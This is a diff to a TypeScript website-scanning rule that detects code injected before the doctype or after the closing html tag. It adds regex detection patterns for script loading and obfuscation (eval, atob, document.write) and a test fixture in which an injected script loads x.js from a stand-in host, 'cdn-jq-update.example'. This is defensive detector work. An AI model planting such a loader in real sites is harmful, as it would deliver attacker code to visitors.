@@ -22,6 +22,8 @@ interface Outside {
   readonly where: 'before' | 'after';
   readonly links: readonly string[];
   readonly scripts: readonly string[];
+  /** Inline code that loads or disguises other code. */
+  readonly loader: boolean;
   readonly words: number;
 }
 
@@ -54,7 +56,7 @@ export default rule({
   needs: { url: true, wholePage: true },
   basis: 'measured',
   scoring:
-    'Before the doctype or after the closing html tag, comments left out: 1 for links to unknown sites with trades of spam, 0.8 for other links to unknown sites, 0.6 for a text of 12 words or a script file of an unknown site. A frame of another, unknown site with at most one pixel: 0.7.',
+    'Before the doctype or after the closing html tag, comments left out: 1 for links to unknown sites with trades of spam, 0.8 for other links to unknown sites, 0.6 for a text of 12 words, a script file of an unknown site or inline code that loads or disguises other code. A frame of another, unknown site with at most one pixel: 0.7.',
   detect(page) {
     const parts = outside(page)
       .map((part) => ({ part, score: scoreOf(page, part) }))
@@ -85,6 +87,11 @@ export default rule({
           '</main>',
           '</main><iframe src="https://stat-tracker7.example/in.php" width="1" height="1"></iframe>',
         ),
+      ),
+      wrapped(
+        'code before the doctype that loads more',
+        (html) =>
+          `<script>var d="cdn-jq-update.example";document.write('<script src="https://'+d+'/x.js"><\\/script>');</script>${html}`,
       ),
       wrapped(
         'script file of a stranger after the end',
@@ -148,6 +155,7 @@ function readPart(source: string, start: number, end: number, where: Outside['wh
     .replace(/<[^<>]{0,2000}>/g, ' ')
     .trim();
   const words = text.split(/\s+/).filter((word) => /\p{L}{2}/u.test(word)).length;
+  const loader = (where === 'before' ? LOADS : DISGUISES).test(html);
   const first = source.slice(start, end).search(/\S/);
   return {
     start: start + Math.max(0, first),
@@ -155,9 +163,15 @@ function readPart(source: string, start: number, end: number, where: Outside['wh
     where,
     links,
     scripts,
+    loader,
     words: isMessage(text) ? 0 : words,
   };
 }
+
+const DISGUISES =
+  /<script\b[^>]{0,200}>[\s\S]{0,4000}?(?:\beval\s{0,3}\(|\batob\s{0,3}\(|fromCharCode|unescape\s{0,3}\()/i;
+const LOADS =
+  /<script\b[^>]{0,200}>[\s\S]{0,4000}?(?:\beval\s{0,3}\(|\batob\s{0,3}\(|fromCharCode|unescape\s{0,3}\(|document\.write|createElement\s{0,3}\(\s{0,3}["']script|location\s{0,3}(?:=|\.href|\.replace))/i;
 
 /** What servers and interpreters print by mistake. */
 function isMessage(text: string): boolean {
@@ -199,7 +213,7 @@ function scoreOf(page: Page, part: Outside): number {
     return 1;
   if (strangers.length > 0) return 0.8;
   if (part.scripts.some((script) => isStranger(page, script))) return 0.6;
-  return part.words >= MIN_WORDS ? 0.6 : 0;
+  return part.loader || part.words >= MIN_WORDS ? 0.6 : 0;
 }
 
 function isInvisibleFrame(page: Page, item: MediaItem): boolean {
